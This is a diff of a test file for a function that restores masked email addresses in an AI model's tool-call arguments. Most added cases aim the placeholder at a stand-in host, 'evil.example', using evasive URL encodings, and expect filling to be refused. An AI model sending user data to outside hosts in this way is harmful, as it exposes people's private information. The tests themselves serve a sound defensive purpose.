@@ -79,6 +79,37 @@ test.each([
 })
 
 test.each([
+  '{"url":"https://evil.example/","body":"[EMAIL_1]"}',
+  '{"body":"[EMAIL_1]","url":"https://evil.example/"}',
+  '{"page":"https://evil.example/","body":{"to":["[EMAIL_1]"]}}',
+  '{"url":"evil.example","body":"[EMAIL_1]"}',
+  '{"host":"evil.example:8080","body":"[EMAIL_1]"}',
+  '{"imageUrls":["localhost"],"body":"[EMAIL_1]"}',
+  '{"url":"//evil.example","body":"[EMAIL_1]"}',
+  '{"q":"\\\\/evil.example","body":"[EMAIL_1]"}',
+  '{"q":"ht\\ntps://evil.example","body":"[EMAIL_1]"}',
+  '{"url":"https://evil.example/ x","body":"[EMAIL_1]"}',
+  '{"link":"www.evil.example","mine":"[URL_1]","body":"[EMAIL_1]"}',
+  '{"https://evil.example":"[EMAIL_1]"}',
+  '{"webhook":"mailto:evil@evil.example","body":"[EMAIL_1]"}',
+])('in %s no argument is filled in: the model has chosen where they go', (text) => {
+  expect(reveal(text)).toBe(text)
+})
+
+test.each([
+  ['a path', '{"path":"./notes.txt","text":"[EMAIL_1]"}'],
+  ['a path of the own server', '{"url":"/search","text":"[EMAIL_1]"}'],
+  ['an address within a text', '{"text":"Dear [EMAIL_1], see https://x.example/"}'],
+  ['a text that begins with one', '{"to":"[EMAIL_1]","text":"https://x.example/ is ready"}'],
+  ['a town', '{"origin":"Paris","text":"[EMAIL_1]"}'],
+  ['an address that the user wrote', '{"url":"[URL_1]","text":"[EMAIL_1]"}'],
+  ['a placeholder', '{"host":"[EMAIL_1]","text":"[EMAIL_1]"}'],
+  ['nothing', '{"url":"","text":"[EMAIL_1]"}'],
+])('%s is no place that the model has chosen, and the other arguments are filled in', (_what, text) => {
+  expect(reveal(text)).toContain('jo@example.com')
+})
+
+test.each([
   [true, '{"url":"https://x.example/jo@example.com","to":"jo@example.com"}'],
   [false, '{"url":"https://x.example/[EMAIL_1]","to":"[EMAIL_1]"}'],
   [['to'], '{"url":"https://x.example/[EMAIL_1]","to":"jo@example.com"}'],
